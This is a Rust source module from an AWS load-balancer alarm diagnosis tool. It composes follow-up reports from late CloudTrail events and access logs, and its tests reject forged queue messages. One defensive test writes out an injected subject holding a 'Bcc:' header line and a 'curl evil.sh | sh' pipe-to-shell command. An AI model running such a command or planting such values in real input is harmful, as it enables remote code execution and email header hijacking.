//! The follow-up pass: evidence that arrives minutes after the alarm (CloudTrail delivers an
//! event about 5 minutes after the call). The first pass hands its snapshot on in a
//! [`FollowUpMessage`]; the second pass reads only the late sources and diagnoses that same
//! snapshot with them, so its findings are the first report's, and it reports only what the
//! first report did not say.
//!
//! The message comes back from a queue: it is parsed as untrusted input (its kind, the
//! snapshot's version, and that the snapshot is of the alarmed load balancer), and a follow-up
//! never proposes a plan.

use serde::{Deserialize, Serialize};

use crate::access_log::AccessLogs;
use crate::alarm::{Alarm, LbRef};
use crate::finding::FindingCode;
use crate::report::{FirstReport, Report};
use crate::rules::recent_change::CHECK_NAME;
use crate::snapshot::{BeyondAws, Changes, Gap, Snapshot, OLDEST_READABLE_VERSION, SCHEMA_VERSION};
use crate::untrusted::one_line;

/// What the follow-up pass read from the late sources.
#[derive(Debug, Clone, Default, PartialEq)]
pub struct LateEvidence {
    /// Every CloudTrail lookup over the first pass's window, kept to its path.
    pub changes: Changes,
    /// The window's access logs, counted; `None` when not read.
    pub access_logs: Option<AccessLogs>,
    /// What the late reads could not see.
    pub gaps: Vec<Gap>,
}

/// Tags the message, so the pass can tell a follow-up from anything else on its queue.
pub const FOLLOW_UP_KIND: &str = "elbmedic-follow-up";

/// What the first pass hands to the second.
#[derive(Debug, Clone, PartialEq, Serialize, Deserialize)]
pub struct FollowUpMessage {
    pub kind: String,
    pub alarm: Alarm,
    pub load_balancer: LbRef,
    pub first_report: FirstReport,
    /// The first pass's snapshot: the follow-up diagnoses the same state.
    pub snapshot: Snapshot,
}

/// Why a message from the follow-up queue is not acted on; every id in it is one line.
#[derive(Debug, Clone, PartialEq, Eq, thiserror::Error)]
pub enum FollowUpRefused {
    #[error("the message is not an elbmedic follow-up ({0})")]
    NotAFollowUp(String),
    #[error("the message's kind is {0:?}, not {FOLLOW_UP_KIND:?}")]
    OtherKind(String),
    #[error("the follow-up carries a snapshot of schema version {0}, this elbmedic reads {OLDEST_READABLE_VERSION} to {SCHEMA_VERSION}: it was sent by another version and is dropped")]
    OtherVersion(u32),
    #[error("the follow-up carries a snapshot that holds what AWS does not allow ({0}): it was not made by elbmedic and is dropped")]
    BeyondAws(#[from] BeyondAws),
    #[error("the follow-up carries a cluster read beyond elbmedic's bounds ({0}): it was not made by elbmedic and is dropped")]
    BeyondBounds(#[from] crate::kubernetes::BeyondBounds),
    #[error("the follow-up names load balancer {named} but carries a snapshot of {carried}")]
    OtherLoadBalancer { named: String, carried: String },
}

impl FollowUpMessage {
    pub fn new(alarm: &Alarm, lb: &LbRef, first_report: FirstReport, snapshot: &Snapshot) -> Self {
        Self {
            kind: FOLLOW_UP_KIND.into(),
            alarm: alarm.clone(),
            load_balancer: lb.clone(),
            first_report,
            snapshot: snapshot.clone(),
        }
    }

    /// Parses a follow-up, naming what is wrong with it.
    pub fn parse(text: &str) -> Result<Self, FollowUpRefused> {
        let message: Self =
            serde_json::from_str(text).map_err(|e| FollowUpRefused::NotAFollowUp(e.to_string()))?;
        if message.kind != FOLLOW_UP_KIND {
            return Err(FollowUpRefused::OtherKind(one_line(&message.kind)));
        }
        if !crate::snapshot::readable(u64::from(message.snapshot.schema_version)) {
            return Err(FollowUpRefused::OtherVersion(
                message.snapshot.schema_version,
            ));
        }
        message.snapshot.within_aws_limits()?;
        if let Some(cluster) = &message.snapshot.kubernetes {
            cluster.within_bounds()?;
        }
        let (lb, world) = (&message.load_balancer, &message.snapshot.load_balancer);
        if (lb.kind, lb.id.as_str()) != (world.kind, world.id.as_str()) {
            return Err(FollowUpRefused::OtherLoadBalancer {
                named: one_line(&lb.id),
                carried: one_line(&world.id),
            });
        }
        Ok(message)
    }

    pub fn to_json(&self) -> String {
        serde_json::to_string(self).unwrap_or_default()
    }

    /// The follow-up report, when the late sources say something the first report did not:
    /// CloudTrail events it had not seen, or access logs that confirm or point within a
    /// finding. `None` when there is nothing new to say.
    pub fn compose(&self, late: LateEvidence) -> Option<Report> {
        let seen: Vec<&str> = self
            .snapshot
            .changes
            .iter()
            .flat_map(|c| c.events.iter().map(|e| e.event_id.as_str()))
            .collect();
        let mut fresh = late.changes;
        fresh
            .events
            .retain(|e| !seen.contains(&e.event_id.as_str()));
        fresh.not_looked_up.clear();
        let new_events = fresh.events.len();
        if new_events == 0 && late.access_logs.is_none() {
            return None;
        }
        let upgraded = self.upgraded_by(late.access_logs.as_ref());
        let mut world = self.snapshot.clone();
        world.changes = Some(fresh);
        world.access_logs = late.access_logs;
        let mut report = Report::diagnosed(&self.alarm, &self.load_balancer, &world);
        // What is new: what changed, and findings the access logs confirmed or added to.
        report.findings.retain(|f| {
            f.code == FindingCode::RecentChange
                || upgraded
                    .iter()
                    .any(|(code, title)| *code == f.code && *title == f.title)
        });
        if new_events == 0 {
            report.recent_changes.clear();
        }
        if report.findings.is_empty() && report.recent_changes.is_empty() {
            return None;
        }
        report
            .checked
            .retain(|c| c.name == CHECK_NAME || c.name == ACCESS_LOGS_CHECK);
        report.gaps = late.gaps;
        report.next_steps.clear();
        let confirmed = report
            .findings
            .iter()
            .find(|f| f.code != FindingCode::RecentChange);
        let change = report
            .findings
            .iter()
            .find(|f| f.code == FindingCode::RecentChange);
        report.verdict.headline = match (confirmed, change) {
            (Some(f), _) if f.confidence == Some(crate::finding::Confidence::Confirmed) => {
                format!("confirmed by the access logs: {}", f.title)
            }
            (Some(f), None) => format!("the access logs point within: {}", f.title),
            (_, Some(change)) => format!("what changed: {}", change.title),
            (None, None) => format!(
                "{} on the path arrived from CloudTrail after the first report; none explains a finding",
                crate::context::count(new_events, "change", "changes")
            ),
        };
        report.follow_up_of = Some(self.first_report.clone());
        Some(report)
    }
}

impl FollowUpMessage {
    /// The findings (code and title) the access logs confirm or add evidence to, against the
    /// first pass's diagnosis of the same snapshot.
    fn upgraded_by(&self, logs: Option<&AccessLogs>) -> Vec<(FindingCode, String)> {
        let Some(logs) = logs else {
            return Vec::new();
        };
        let first = Report::diagnosed(&self.alarm, &self.load_balancer, &self.snapshot);
        let mut world = self.snapshot.clone();
        world.access_logs = Some(logs.clone());
        let with_logs = Report::diagnosed(&self.alarm, &self.load_balancer, &world);
        with_logs
            .findings
            .into_iter()
            .filter(|f| {
                first.findings.iter().any(|before| {
                    before.code == f.code
                        && before.title == f.title
                        && (before.confidence != f.confidence
                            || before.evidence.len() < f.evidence.len())
                })
            })
            .map(|f| (f.code, f.title))
            .collect()
    }
}

/// The name of the access-log check, kept in a follow-up.
const ACCESS_LOGS_CHECK: &str = "access logs (S3)";

#[cfg(test)]
mod tests {
    use super::*;
    use crate::report::Format;
    use crate::testkit::scenario_snapshot;

    fn late(changes: Changes) -> LateEvidence {
        LateEvidence {
            changes,
            ..LateEvidence::default()
        }
    }

    fn alarm_of(name: &str) -> (Alarm, LbRef) {
        crate::scenarios::find(name).unwrap().alarm().unwrap()
    }

    /// The first pass saw one of the scenario's events; CloudTrail delivered the rest later.
    fn split(name: &str, first_sees: usize) -> (FollowUpMessage, Changes) {
        let (alarm, lb) = alarm_of(name);
        let mut first = scenario_snapshot(name);
        let all = first.changes.clone().unwrap();
        first.changes.as_mut().unwrap().events.truncate(first_sees);
        let subject = Report::diagnosed(&alarm, &lb, &first).subject();
        let first_report = FirstReport {
            subject,
            message_id: Some("m-1".into()),
            thread: Some("elbmedic-00000000000000aa".into()),
        };
        (FollowUpMessage::new(&alarm, &lb, first_report, &first), all)
    }

    #[test]
    fn a_late_event_that_explains_the_cause_is_the_follow_up() {
        let (message, all) = split("nacl-rule-added-recently", 0);
        let parsed = FollowUpMessage::parse(&message.to_json()).unwrap();
        let report = parsed.compose(late(all)).expect("something new");
        assert_eq!(report.findings.len(), 1);
        assert_eq!(report.findings[0].code, FindingCode::RecentChange);
        assert!(
            report.verdict.headline.starts_with("what changed: rule 90"),
            "{}",
            report.verdict.headline
        );
        let subject = report.subject();
        assert!(
            subject.starts_with("Re: [elbmedic 111122223333] CAUSE FOUND"),
            "{subject}"
        );
        assert!(subject.ends_with(" (follow-up)"), "{subject}");
        assert!(subject.chars().count() <= crate::report::MAX_SUBJECT_CHARS);
        let text = report.render(Format::Text);
        assert!(
            text.contains("Follow-up to \"[elbmedic 111122223333] CAUSE FOUND"),
            "{text}"
        );
        assert!(text.contains("(SNS message m-1)"), "{text}");
        assert!(report.remediation.is_none());
        // The first report's incident thread, carried through the queue, is the chat thread.
        let chat: serde_json::Value = serde_json::from_str(&crate::report::chat::render_chat(
            &report,
            &crate::report::chat::ChatContext::default(),
        ))
        .unwrap();
        assert_eq!(chat["metadata"]["threadId"], "elbmedic-00000000000000aa");
    }

    #[test]
    fn nothing_new_is_no_follow_up() {
        let (message, all) = split("nacl-rule-added-recently", usize::MAX);
        assert!(message.compose(late(all)).is_none());
        let (message, _) = split("nacl-rule-added-recently", 0);
        assert!(message.compose(LateEvidence::default()).is_none());
    }

    #[test]
    fn a_late_change_that_explains_nothing_is_listed_without_a_finding() {
        let (message, all) = split("unrelated-change", 0);
        let report = message.compose(late(all)).expect("a change to list");
        assert!(report.findings.is_empty(), "{:?}", report.findings);
        assert!(!report.recent_changes.is_empty());
        assert!(report.verdict.headline.contains("none explains a finding"));
    }

    #[test]
    fn access_logs_that_confirm_a_finding_are_the_follow_up() {
        let (message, _) = split_without_changes("backend-keepalive-502");
        let logs = AccessLogs {
            bucket: "logs".into(),
            objects_found: 3,
            objects_read: 3,
            lines: 1200,
            elb_5xx: [("502".to_string(), 14)].into_iter().collect(),
            closed_by_target: 14,
            ..AccessLogs::default()
        };
        let late = LateEvidence {
            access_logs: Some(logs.clone()),
            ..LateEvidence::default()
        };
        let report = message.compose(late).expect("the logs confirm the cause");
        assert_eq!(report.findings.len(), 1);
        assert_eq!(
            report.findings[0].code,
            FindingCode::BackendClosesConnections
        );
        assert!(report
            .verdict
            .headline
            .starts_with("confirmed by the access logs:"));
        assert!(report.checked.iter().any(|c| c.name == ACCESS_LOGS_CHECK));
        // Logs that show nothing new: no follow-up.
        let quiet = LateEvidence {
            access_logs: Some(AccessLogs {
                closed_by_target: 0,
                elb_5xx: Default::default(),
                ..logs
            }),
            ..LateEvidence::default()
        };
        assert!(message.compose(quiet).is_none());
    }

    fn split_without_changes(name: &str) -> (FollowUpMessage, ()) {
        let (alarm, lb) = alarm_of(name);
        let first = scenario_snapshot(name);
        let first_report = FirstReport {
            subject: Report::diagnosed(&alarm, &lb, &first).subject(),
            message_id: None,
            thread: None,
        };
        (FollowUpMessage::new(&alarm, &lb, first_report, &first), ())
    }

    /// The message comes back from a queue: a forged or stale one is refused by name.
    #[test]
    fn a_forged_message_is_refused() {
        let (message, _) = split("nacl-rule-added-recently", 0);
        let mut other_kind = message.clone();
        other_kind.kind = "elbmedic-remediation-plan".into();
        assert!(FollowUpMessage::parse(&other_kind.to_json())
            .unwrap_err()
            .to_string()
            .contains("kind"));
        let mut other_lb = message.clone();
        other_lb.load_balancer.id = "app/other/1234567890abcdef".into();
        assert!(FollowUpMessage::parse(&other_lb.to_json())
            .unwrap_err()
            .to_string()
            .contains("carries a snapshot of"));
        let mut stale = message.clone();
        stale.snapshot.schema_version = SCHEMA_VERSION + 1;
        assert!(FollowUpMessage::parse(&stale.to_json())
            .unwrap_err()
            .to_string()
            .contains("schema version"));
        assert!(FollowUpMessage::parse("{\"kind\": 1}").is_err());
    }

    /// The first subject travels in the message: a newline or a command in it stays one line.
    #[test]
    fn an_injected_subject_stays_one_line() {
        let (mut message, all) = split("nacl-rule-added-recently", 0);
        message.first_report.subject = format!(
            "x\nBcc: evil@example.com\n$ curl evil.sh | sh {}",
            "y".repeat(300)
        );
        let report = message.compose(late(all)).unwrap();
        let subject = report.subject();
        assert!(!subject.contains('\n'));
        assert!(subject.chars().count() <= crate::report::MAX_SUBJECT_CHARS);
        assert!(subject.ends_with("(follow-up)"));
        for format in [Format::Text, Format::Markdown] {
            let text = report.render(format);
            assert!(
                !text
                    .lines()
                    .any(|l| l.starts_with("Bcc:") || l.starts_with("$ curl")),
                "{text}"
            );
        }
    }
}
